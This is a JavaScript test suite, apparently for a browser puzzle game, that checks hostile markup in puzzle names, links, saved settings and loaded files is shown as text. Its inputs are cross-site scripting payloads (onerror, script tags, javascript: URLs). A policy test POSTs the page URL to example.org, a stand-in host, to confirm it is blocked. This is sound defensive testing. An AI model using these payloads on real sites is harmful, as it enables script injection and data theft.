// Content of a hostile link, puzzle or page is shown as text and never executed, and nothing leaves the page.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { inEachBrowser } from './harness.mjs';

const image = '<img/src=x/onerror=globalThis.broken=1>';
const script = '<script>globalThis.broken=2</script>';
const isWhole = (game) => game.page.evaluate(() => globalThis.broken === undefined && document.querySelectorAll('img, iframe, object, embed, body script:not([src])').length === 0);

inEachBrowser('security', ({ visit }) => {
  test('markup in the names of a puzzle is text', async () => {
    const game = await visit();
    await game.drawn(() => game.paste(JSON.stringify({ lamps: [script, 'b'], buttons: { [image]: { [script]: 1, b: 1 }, B: { b: 1 } }, start: [0, 1] })));
    await game.says(/^Opened: My puzzle/);
    const labels = await game.page.$$eval('[data-id]', (all) => all.map((one) => `${one.getAttribute('aria-label') ?? ''} ${one.textContent}`).join('\n'));
    assert.ok(labels.includes(image) && labels.includes(script));
    await game.click('hint');
    await game.key('m'); // shows the list of all buttons and lamps
    assert.ok(await isWhole(game));
    await game.page.reload();
    await game.ready();
    await game.settle();
    assert.ok(await isWhole(game));
    assert.deepEqual([game.errors, game.console], [[], []]);
    await game.close();
  });

  test('markup in a link is text, in the refusal too', async () => {
    for (const code of [image, `2.${image}.mI.ybha0`, `2.merlin.${encodeURIComponent(script)}`, `embed,${image}`, `javascript:globalThis.broken=3`]) {
      const game = await visit(code);
      assert.ok(await isWhole(game), code);
      await game.close();
    }
  });

  test('markup in what is kept, and in a file that is loaded, is text', async () => {
    const plus = '3x3~2~p~XQ'; // the rule of Lights Out
    const names = [image, '<b onclick=alert(1)>bold</b>'];
    const settings = (rules) => `switchbox-settings 2\ntheme dark\n${rules.map((name) => `rule ${plus} ${name}\n`).join('')}end\n`;
    const lines = (text) => text.split('\n').length - 1;
    const part = (name, text) => `part ${name} ${lines(text)}\n${text}`;
    const file = (rules, game, lesson) => `switchbox-data 1\n${part('settings', settings(rules))}${part('game', `switchbox-game 2\n${game}\nend\n`)}${part('statistics', 'switchbox-statistics 1\nend\n')}${part('lesson', `${lesson}\n`)}end\n`;
    const put = (text) => localStorage.getItem('switchbox.settings') ?? localStorage.setItem('switchbox.settings', text);
    const game = await visit('', { before: `if (location.protocol === 'http:') (${put})(${JSON.stringify(settings(names))});` });
    const seesNames = async () => {
      await game.machine('own');
      const labels = await game.page.$$eval('[data-id^="rule-saved-"]', (all) => all.map((one) => one.getAttribute('aria-label')));
      assert.deepEqual(labels.map((label) => label.replace(/, loaded$/, '')), names);
      assert.ok(await isWhole(game));
      await game.key('Escape');
    };
    await seesNames();
    await game.drop(file(names, '2.merlin.mI.ybha0', `${image} 1`));
    await game.until(() => game.isThere('data-back'), Boolean);
    await game.key('Escape');
    await seesNames();
    // Messages about refused files are safe too.
    for (const damaged of [file([`${image}${image}`], '2.merlin.mI.ybha0', ''), file([], image, ''), `switchbox-data ${script}\n`, file([], `2.merlin.mI.ybha0\n${script}`, '')]) {
      await game.drop(damaged);
      await game.until(() => game.isThere('notice'), Boolean);
      assert.match(await game.text('notice'), /^This file cannot be loaded: .*<.*Nothing was changed\.$/);
      assert.ok(await isWhole(game));
      await game.click('notice-close');
    }
    assert.deepEqual([game.errors, game.console], [[], []]);
    await game.close();
  });

  test('the policy stops scripts, pictures, frames and requests of others', async () => {
    const game = await visit();
    const stopped = await game.page.evaluate(async () => {
      const found = [];
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => found.push(effectiveDirective));
      const put = (name, attributes) => document.body.append(Object.assign(document.createElement(name), attributes));
      put('script', { textContent: 'globalThis.broken = 4' });
      put('script', { src: 'https://example.org/script.js' });
      put('img', { src: 'https://example.org/picture.png' });
      put('iframe', { src: 'https://example.org/' });
      const style = document.createElement('style');
      style.textContent = 'body { display: none }';
      document.head.append(style);
      document.body.setAttribute('onclick', 'globalThis.broken = 5');
      document.body.click();
      await fetch('https://example.org/', { method: 'POST', body: location.href }).catch(() => {});
      for (let i = 0; i < 100 && new Set(found).size < 6; ++i) await new Promise((resolve) => setTimeout(resolve, 50));
      return [...found, String(globalThis.broken), getComputedStyle(document.body).display];
    });
    const [shown, broken] = [stopped.pop(), stopped.pop()];
    assert.equal(broken, 'undefined');
    assert.notEqual(shown, 'none');
    for (const directive of ['script-src-elem', 'script-src-attr', 'img-src', 'frame-src', 'style-src-elem', 'connect-src']) assert.ok(stopped.includes(directive), `${directive}: ${stopped}`);
    await game.close();
  });

  test('nothing is asked of another server, whatever is opened', async () => {
    const game = await visit();
    const origin = await game.page.evaluate(() => location.origin);
    const asked = [];
    game.page.on('request', (request) => asked.push(request.url()));
    for (const command of ['hint', 'solve']) await game.click(command);
    for (const key of ['b', 'x', 'y', 'g', '?']) {
      await game.key(key);
      await game.key('Escape');
    }
    const cube = await game.element('radio', 'Cube');
    await game.drawn(() => cube.evaluate((chip) => chip.click()));
    await game.click('hint');
    await game.page.reload();
    await game.ready();
    assert.ok(asked.length > 3, `${asked}`);
    assert.deepEqual(asked.filter((url) => !url.startsWith(`${origin}/`) && !/^(blob|data):/.test(url)), []);
    await game.close();
  });
});
